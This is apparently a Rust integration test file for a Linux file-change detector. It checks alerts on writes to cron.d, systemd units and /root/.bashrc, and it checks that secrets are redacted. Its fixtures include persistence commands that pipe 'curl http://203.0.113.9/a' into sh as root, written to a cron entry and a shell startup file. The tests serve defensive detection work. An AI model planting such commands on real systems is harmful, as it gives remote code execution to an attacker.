//! What changed in a file: read after its writer closed it, shown by the alert, secrets left out.
//!
//! Everything happens in a mount namespace of its own, over whose `/etc/cron.d`, `/etc/systemd/system` and
//! `/root` empty file systems are mounted.

use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use detector::event::FileText;
use detector::pipeline::Input;
use detector::recording::Reader;
use detector_tests::needs_root;
use detector_tests::trigger::program;
use serde_json::Value;

use crate::cli::{Ended, checked, detector, end};

/// What came of a script that an agent ran.
struct Scene {
    place: tempfile::TempDir,
    ended: Ended,
    alerts: Vec<Value>,
}

/// Runs a script as an agent. What `before` does is there when the detector starts; both have the directory
/// of the scene as `$0`'s directory, `$D`.
fn scene(before: &str, script: &str) -> Scene {
    let place = tempfile::tempdir().unwrap();
    let path = |name: &str| place.path().join(name);
    fs::write(path("before.sh"), before).unwrap();
    fs::write(path("script.sh"), script).unwrap();
    let stage = "set -e; export D=\"$1\"
        for at in /etc/cron.d /etc/systemd/system /root; do mount -t tmpfs none $at; done
        . \"$D/before.sh\"
        exec \"$0\" wrap -q --record \"$D/recording\" --alerts \"$D/alerts\" -- sh \"$D/script.sh\"";
    let mut command = Command::new("unshare");
    command.args(["--mount", "sh", "-c", stage]);
    command.arg(program("detector").unwrap()).arg(place.path()).stdin(Stdio::null());
    let ended = end(&mut command);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let alerts = checked(&fs::read_to_string(path("alerts")).unwrap());
    Scene { place, ended, alerts }
}

impl Scene {
    fn path(&self, name: &str) -> PathBuf {
        self.place.path().join(name)
    }

    /// Evidence whose sentence has these words.
    fn evidence(&self, words: &[&str]) -> &Value {
        let all = self.alerts.iter().flat_map(|alert| alert["evidence"].as_array().unwrap());
        let is_it = |fact: &&Value| words.iter().all(|word| fact["text"].as_str().unwrap().contains(word));
        all.clone().find(is_it).unwrap_or_else(|| panic!("{words:?} in {:#?}", all.collect::<Vec<_>>()))
    }

    /// What the detector was told of files.
    fn texts(&self) -> Vec<FileText> {
        let inputs = Reader::open(self.path("recording")).unwrap();
        let text = |input| if let Input::FileText(text) = input { Some(*text) } else { None };
        inputs.filter_map(|input| text(input.unwrap())).collect()
    }
}

#[test]
fn a_cron_line_through_a_linked_directory_is_shown_and_explained() {
    needs_root!();
    let scene = scene(
        "echo '0 3 * * * root backup' > /etc/cron.d/job; ln -s /etc/cron.d \"$D/link\"",
        "echo '*/5 * * * * root curl http://203.0.113.9/a | sh' >> \"$D/link/job\"",
    );
    let line = "*/5 * * * * root curl http://203.0.113.9/a | sh";
    let fact = scene.evidence(&["opened /etc/cron.d/job for writing; adds: "]);
    assert_eq!(fact["fields"]["ChangeAdded"], serde_json::json!([line]));
    assert_eq!(fact["fields"].get("ChangeRemoved"), None);
    let said = "every 5 minutes, as root: curl http://203.0.113.9/a | sh";
    assert_eq!(fact["fields"]["ChangeMeaning"], serde_json::json!([said]));
    let cron = |alert: &&Value| alert["rule"]["file"] == "rules/persistence/cron.yml";
    let alerts: Vec<&Value> = scene.alerts.iter().filter(cron).collect();
    let [alert] = alerts.as_slice() else { panic!("{alerts:#?}") };
    assert!(alert["summary"].as_str().unwrap().ends_with(said), "{alert:#}");
    // Far below the time that a content is waited for.
    let latency = alert["latency_us"].as_u64().unwrap();
    println!("latency of the cron line: {latency} µs");
    assert!(latency < 1_000_000, "{latency} µs");

    let again = end(&mut detector(&["replay", scene.path("recording").to_str().unwrap()]));
    let timeless = |mut alerts: Vec<Value>| {
        alerts.iter_mut().for_each(|alert| drop(alert["latency_us"].take()));
        alerts
    };
    assert_eq!(timeless(checked(&again.stdout)), timeless(scene.alerts.clone()));
}

#[test]
fn lines_that_went_are_shown_however_the_file_was_written() {
    needs_root!();
    let scene = scene(
        "for job in sed cut; do printf '0 3 * * * root backup\\n@daily root rest\\n' > /etc/cron.d/$job; done
         printf '[Service]\\nExecStart=/usr/bin/a\\nUser=nobody\\n' > /etc/systemd/system/a.service",
        "sed -i /backup/d /etc/cron.d/sed
         echo '@daily root rest' > /etc/cron.d/cut
         printf '[Service]\\nExecStart=/tmp/a\\n' > \"$D/unit\"
         mv \"$D/unit\" /etc/systemd/system/a.service
         cp /etc/systemd/system/a.service /etc/systemd/system/b.service",
    );
    let gone = serde_json::json!(["0 3 * * * root backup"]);
    for words in [&["renamed", "/etc/cron.d/sed"][..], &["opened /etc/cron.d/cut"]] {
        let fact = scene.evidence(words);
        assert_eq!(fact["fields"]["ChangeRemoved"], gone, "{fact:#}");
        assert_eq!(fact["fields"].get("ChangeAdded"), None, "{fact:#}");
    }
    // mv from another file system removes and creates.
    let unit = scene.evidence(&["/etc/systemd/system/a.service", "no longer: "]);
    let said = ["runs /tmp/a", "no longer: runs /usr/bin/a", "no longer: runs as nobody"];
    assert_eq!(unit["fields"]["ChangeMeaning"], serde_json::json!(said));
    let new = scene.evidence(&["created", "b.service"]);
    assert_eq!(new["fields"]["ChangeAdded"], serde_json::json!(["[Service]", "ExecStart=/tmp/a"]));
}

#[test]
fn files_that_are_none_do_not_stop_the_reader() {
    needs_root!();
    let scene = scene(
        "mkfifo /etc/cron.d/.fifo; mkdir /etc/cron.d/above",
        "mv /etc/cron.d/.fifo /etc/cron.d/fifo
         printf '@daily root huge\\n' > /etc/cron.d/huge
         truncate -s 1G /etc/cron.d/huge
         for turn in 1 2 3 4 5 6 7 8 9; do echo '@daily root x' > /etc/cron.d/gone; rm /etc/cron.d/gone; done
         ln -s /etc/shadow /etc/cron.d/link
         echo '@reboot root last' > /etc/cron.d/last",
    );
    let texts = scene.texts();
    let of = |path: &str| -> Vec<&FileText> { texts.iter().filter(|text| &*text.path == path).collect() };
    let why = |path: &str| of(path)[0].text.clone().unwrap_err();
    assert_eq!(&*why("/etc/cron.d/fifo"), "it is a FIFO");
    assert_eq!(&*why("/etc/cron.d/link"), "it is a symbolic link to /etc/shadow");
    let huge = of("/etc/cron.d/huge").pop().unwrap();
    assert_eq!(huge.size, 1 << 30);
    assert!(huge.text.as_ref().unwrap().len() <= 4 * 65_536);
    assert_eq!(of("/etc/cron.d/last")[0].text.as_deref(), Ok("@reboot root last\n"));
    assert!(!of("/etc/cron.d/gone").is_empty());
    // One clear line of log a file, however often.
    let log = &scene.ended.stderr;
    assert_eq!(log.matches("it is a FIFO").count(), 1, "{log}");
    assert!(log.matches("/etc/cron.d/gone").count() <= 1, "{log}");
    let alert = scene.alerts.iter().find(|alert| alert["rule"]["file"] == "rules/persistence/cron.yml");
    assert!(alert.unwrap()["summary"].as_str().unwrap().ends_with("; it is a FIFO"), "{alert:#?}");
}

#[test]
fn a_writer_that_keeps_its_file_open_is_waited_for_and_then_looked_at_again() {
    needs_root!();
    let scene = scene(
        "",
        "exec 3>>/etc/cron.d/kept; echo '@daily root first' >&3; sleep 1.5
         echo '@reboot root second' >&3; exec 3>&-; sleep 1.5",
    );
    let first = scene.evidence(&["created /etc/cron.d/kept", "its writer still has it open"]);
    assert_eq!(first["fields"]["ChangeAdded"], serde_json::json!(["@daily root first"]));
    let second = scene.evidence(&["second"]);
    assert_eq!(second["fields"]["ChangeAdded"], serde_json::json!(["@reboot root second"]));
}

#[test]
fn a_second_write_behind_the_first_is_seen() {
    needs_root!();
    // One process, one file, twice within what the kernel half reports once.
    let scene = scene(
        "",
        "echo 'export PATH=\"$HOME/bin:$PATH\"' >> /root/.bashrc; sleep 0.3
         echo 'curl http://203.0.113.9/a | sh' >> /root/.bashrc; sleep 1.5",
    );
    let by = |file: &str| {
        let wanted = format!("rules/persistence/{file}.yml");
        scene.alerts.iter().find(|alert| alert["rule"]["file"] == wanted.as_str())
    };
    assert_eq!(by("shell_startup_user_path").unwrap()["level"], "low");
    assert_eq!(by("shell_startup_user_alarming").unwrap()["level"], "high");
    assert!(by("shell_startup_user").is_none(), "{:#?}", scene.alerts);
}

#[test]
fn secrets_are_in_no_alert_and_no_recording() {
    needs_root!();
    let scene = scene(
        "",
        "echo '0 1 * * * root curl -u me:hunter2 https://x:hunter2@h/ -H \"Authorization: Bearer hunter2\"' > /etc/cron.d/a
         printf '[Service]\\nEnvironment=API_TOKEN=hunter2\\nExecStart=/bin/a --password hunter2\\n' > /etc/systemd/system/a.service
         printf '{\"client_secret\": \"hunter2\"}' > \"$D/config.json\"
         sleep 0.3",
    );
    assert!(scene.evidence(&["curl -u me:***"])["text"].as_str().unwrap().contains("https://x:***@h/"));
    scene.evidence(&["runs /bin/a --password ***"]);
    let texts = scene.texts();
    assert!(texts.iter().any(|text| text.path.ends_with("/config.json")), "{texts:#?}");
    assert!(!fs::read_to_string(scene.path("alerts")).unwrap().contains("hunter2"));
    let inputs = Reader::open(scene.path("recording")).unwrap();
    for input in inputs {
        let said = format!("{:?}", input.unwrap());
        assert!(!said.contains("hunter2"), "{said}");
    }
}

#[test]
fn files_of_another_mount_namespace_are_read_there() {
    needs_root!();
    let scene = scene(
        "echo '@daily root host' > /etc/cron.d/job",
        "cat > \"$D/inner.sh\" << 'END'
mount -t tmpfs none /etc/cron.d
echo '@daily root inner' > /etc/cron.d/job
mv /etc/cron.d/job /etc/cron.d/moved
sleep 0.5
END
         unshare --mount sh \"$D/inner.sh\"",
    );
    let texts = scene.texts();
    let inner: Vec<&FileText> = texts.iter().filter(|text| text.path.starts_with("/etc/cron.d/")).collect();
    assert!(!inner.is_empty());
    assert!(inner.iter().any(|text| text.text.as_deref() == Ok("@daily root inner\n")), "{inner:#?}");
    assert!(inner.iter().all(|text| text.text.as_deref() != Ok("@daily root host\n")), "{inner:#?}");
}
